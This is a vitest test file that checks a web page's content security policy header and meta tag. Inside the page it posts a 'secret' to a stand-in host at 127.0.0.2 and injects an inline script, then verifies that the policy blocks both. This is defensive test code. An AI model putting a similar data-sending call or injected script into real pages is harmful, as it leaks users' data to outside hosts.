import { afterAll, describe, expect, it } from 'vitest';
import { launch, stopServer } from './harness';

afterAll(stopServer);

describe('content security policy', () => {
  it('is sent with the page and blocks connections and inline scripts from anywhere but our origin', async () => {
    const s = await launch();
    try {
      const response = await s.page.goto(s.url);
      const header = response?.headers()['content-security-policy'] ?? '';
      expect(header).toContain("connect-src 'self'");
      expect(header).toMatch(/script-src 'self'[^;]*;/);
      expect(header).not.toMatch(/script-src[^;]*unsafe-inline/);
      const meta = await s.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
      expect(meta).toBe(header);

      const violations = await s.page.evaluate(async () => {
        const seen: string[] = [];
        document.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective));
        await fetch('http://127.0.0.2:9/leak', { method: 'POST', body: 'secret' }).catch(() => null);
        const script = document.createElement('script');
        script.textContent = 'window.__inlineRan = true';
        document.body.appendChild(script);
        await new Promise((r) => setTimeout(r, 200));
        return { seen, inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true };
      });
      expect(violations.seen).toContain('connect-src');
      expect(violations.seen).toContain('script-src-elem');
      expect(violations.inlineRan).toBe(false);
      expect(s.foreignRequests).toEqual([]);
    } finally {
      await s.close();
    }
  });
});
